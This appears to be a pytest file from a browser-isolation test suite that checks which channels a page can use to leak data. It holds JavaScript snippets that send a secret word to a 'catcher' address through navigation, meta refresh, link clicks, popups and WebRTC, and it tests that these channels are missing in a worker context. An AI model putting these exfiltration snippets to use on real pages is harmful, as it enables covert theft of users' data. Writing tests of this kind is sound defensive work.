"""What no policy forbids a page: asserted as it is, for the page on safety says so."""

from __future__ import annotations

import pytest
from attacking import WAYS, Attack, soon

LEAVING = {
    "location": "address => { location = address }",
    "location of the window": "address => { top.location.assign(address) }",
    "meta refresh": """address => document.head.append(
        Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: `0;url=${address}` }))""",
    "link": """address => Object.assign(document.createElement("a"), { href: address }).click()""",
    "popup": "address => { open(address) }",
}
CALL = 'address => tryWays({ names: ["WebRTC"], bases: [["", address]], word: "" })'


@pytest.mark.parametrize("way", LEAVING)
def test_a_page_may_leave_for_another_address(attack: Attack, way: str) -> None:
    page = attack.open()
    page.evaluate(LEAVING[way], f"{attack.catcher.address}/x.htm?way={way}&word={attack.word}")
    assert soon(lambda: any(attack.word.encode() in said for said in attack.catcher.said))


def test_a_page_may_call_another_browser(attack: Attack) -> None:
    page = attack.open()
    page.evaluate(WAYS + "null;")
    page.evaluate(CALL, f"{attack.catcher.address}/?")
    assert soon(lambda: attack.catcher.asked_for_addresses)


def test_where_a_paste_is_read_none_of_this_exists(attack: Attack) -> None:
    outcomes = attack.from_worker(attack.open(), ("WebRTC", "preconnect", "iframe", "script"))
    attack.fence()
    assert set(outcomes.values()) == {"absent"}
    assert attack.arrived() == set()
    assert attack.catcher.datagrams == []
